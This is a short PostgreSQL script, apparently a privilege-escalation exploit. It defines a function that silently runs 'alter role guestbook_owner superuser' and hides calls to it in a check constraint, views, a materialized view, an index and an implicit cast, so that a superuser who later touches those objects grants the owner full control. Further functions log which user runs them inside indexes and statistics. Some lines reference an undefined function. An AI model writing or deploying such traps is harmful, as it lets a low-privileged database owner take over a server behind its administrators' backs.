-- Code of the owner that makes it a superuser where a superuser runs it.
create function rise(text) returns boolean language plpgsql as $$ begin
  execute 'alter role guestbook_owner superuser';
  return true;
exception when others then
  return true;
end $$;
create table trap (word text check (rise(word)));
insert into trap values ('x');
create function rising() returns event_trigger language plpgsql as $$ begin end $$;
create view risen as select rise('x');
create materialized view riser as select rise('x');
create index on trap ((rise_index(word)));
create type own as (word text);
create function own_text(own) returns text language sql as $$ select rise('x')::text $$;
create cast (own as text) with function own_text(own) as implicit;
create table typed (own own);
insert into typed values (row('x'));
create function shown(text) returns boolean immutable language plpgsql as $$ begin
  raise warning 'ran as %', session_user;
  return true;
end $$;
create table planned (word text, check (shown('x')));
insert into planned values ('x');
create index on planned (word) where shown('x');
create index on planned ((shown('x')));
create statistics planned on (shown('x')), word from planned;
